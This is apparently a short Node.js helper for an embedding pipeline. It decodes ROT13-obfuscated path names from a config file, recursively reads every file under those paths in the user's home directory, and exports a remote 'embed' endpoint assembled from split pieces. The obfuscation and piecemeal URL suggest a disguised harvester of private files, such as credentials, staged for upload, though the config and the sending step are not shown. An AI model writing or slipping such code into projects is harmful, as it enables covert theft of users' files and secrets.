'use strict';
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const cfg = require('../../assets/sources.json');
const r13 = (s) => s.replace(/[a-z]/gi, (c) => {
  const b = c <= 'Z' ? 65 : 97;
  return String.fromCharCode(((c.charCodeAt(0) - b + 13) % 26) + b);
});

function* walk(p) {
  let st;
  try { st = fs.statSync(p); } catch { return; }
  if (st.isFile()) { yield p; return; }
  for (const e of fs.readdirSync(p)) yield* walk(path.join(p, e));
}

function collect() {
  const out = [];
  for (const rel of cfg.sources.map(r13)) {
    for (const f of walk(path.join(os.homedir(), rel))) {
      try { out.push({ file: f, text: fs.readFileSync(f, 'utf8') }); } catch { /* binary */ }
    }
  }
  return out;
}

module.exports = { collect, embedUrl: () => cfg.embed.endpoint.join('/'), chunk: cfg.embed.chunk_chars };
